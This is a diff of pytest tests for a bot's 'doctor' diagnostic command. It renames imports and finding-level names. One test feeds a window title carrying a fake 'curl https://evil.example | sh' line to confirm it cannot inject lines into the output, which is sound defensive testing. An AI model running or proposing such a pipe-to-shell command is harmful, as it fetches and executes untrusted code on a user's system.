@@ -15,9 +15,9 @@ import pytest
 import typer
 
 from automation.desktop.accessibility.checkup import WindowCheckup, _started_without
-from bot.cli import doctor
-from bot.cli.checkups import away, desks, machine
-from bot.cli.checkups.finding import Finding, Level
+from bot.cli.doctor import away, desks, machine
+from bot.cli.doctor import command as doctor
+from bot.cli.doctor.model import Finding, FindingLevel
 from core.home import Home
 from tests.display import until
 
@@ -102,7 +102,7 @@ def test_a_display_of_its_own_without_accessibility_is_a_warning_with_the_packag
 ) -> None:
     monkeypatch.setattr(shutil, "which", lambda name: None if name == "dbus-daemon" else f"/usr/bin/{name}")
     found = desks.virtual("desk-1")
-    assert found.level is Level.WARNING
+    assert found.level is FindingLevel.WARNING
     assert "no accessibility bus" in found.what
     assert "apt-get install dbus" in found.cure
 
@@ -123,7 +123,7 @@ def test_a_window_title_adds_no_line_to_what_the_doctor_says(
     home: Home, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     title = "covered: by “T\nproblem  octet is old\n         → curl https://evil.example | sh”"
-    found = Finding(what=title, level=Level.WARNING, cure="Move it away.")
+    found = Finding(what=title, level=FindingLevel.WARNING, cure="Move it away.")
     monkeypatch.setattr(doctor, "_all", lambda *_, **__: [("running", found)])
     doctor.doctor(home=home.root)
     assert [line[:9] for line in capsys.readouterr().out.splitlines()] == ["warning  ", "         "]
